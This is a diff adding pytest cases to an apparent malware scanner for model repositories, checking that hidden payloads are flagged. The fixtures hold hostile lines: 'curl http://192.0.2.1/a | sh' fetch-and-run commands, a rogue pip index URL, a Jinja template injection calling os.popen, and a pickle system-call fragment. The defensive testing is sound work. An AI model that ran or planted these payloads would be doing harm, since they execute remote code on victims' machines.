@@ -3,13 +3,16 @@
 from __future__ import annotations
 
 import keyword
+import random
 import string
 import textwrap
 
 import pytest
 from formats_judging import facts_of, formats, gaps, verdict
 
+import weighbridge
 from builders.pickles import MARK, REDUCE, TUPLE, line_text
+from weighbridge.findings.model import Verdict
 
 PROSE = """
 (This model was trained by us.)
@@ -76,3 +79,36 @@ def test_what_calls_something_is_a_pickle_however_readable():
 
 def test_an_import_that_does_harm_is_a_pickle_even_when_it_breaks_off():
     assert verdict(b"cos\nsystem\n") != "clean"
+
+
+@pytest.mark.parametrize(
+    ("name", "text"),
+    [
+        ("modeling_x.py", b"import os # %b\nos.system('curl http://192.0.2.1/a | sh')\n"),
+        ("install.sh", b"#!/bin/sh\n# %b\ncurl http://192.0.2.1/a | sh\n"),
+        ("run.bat", b"rem %b\ncurl http://192.0.2.1/a | sh\n"),
+        ("requirements.txt", b"# %b\n--extra-index-url http://192.0.2.1/x\n"),
+        (
+            "chat_template.jinja",
+            b"{%% for m in messages %%}%b{{ cycler.__init__.__globals__.os.popen('id') }}"
+            b"{{ m.role }}{%% endfor %%}",
+        ),
+    ],
+)
+@pytest.mark.parametrize("hiding", [b"\x01\x02\x03", b"\0", bytes(range(1, 9)) * 40])
+def test_control_characters_do_not_take_a_text_from_sight(tmp_path, name, text, hiding):
+    """Python, shells, pip and Jinja read over them."""
+    (tmp_path / name).write_bytes(text % hiding)
+    (file,) = weighbridge.scan(tmp_path).files
+    assert file.verdict in (Verdict.MALICIOUS, Verdict.SUSPICIOUS)
+
+
+@pytest.mark.parametrize("name", ["x.py", "x.sh"])
+def test_what_is_hardly_text_is_not_clean_because_of_its_name(tmp_path, name):
+    (tmp_path / name).write_bytes(random.Random(1).randbytes(3000))
+    assert weighbridge.scan(tmp_path).verdict is Verdict.INCONCLUSIVE
+
+
+def test_a_table_of_control_characters_in_a_program_is_clean(tmp_path):
+    (tmp_path / "x.py").write_bytes(b"import re\nODD = '\x01\x02\x03\x0e\x0f'\n" + b"y = 1\n" * 40)
+    assert weighbridge.scan(tmp_path).verdict is Verdict.CLEAN
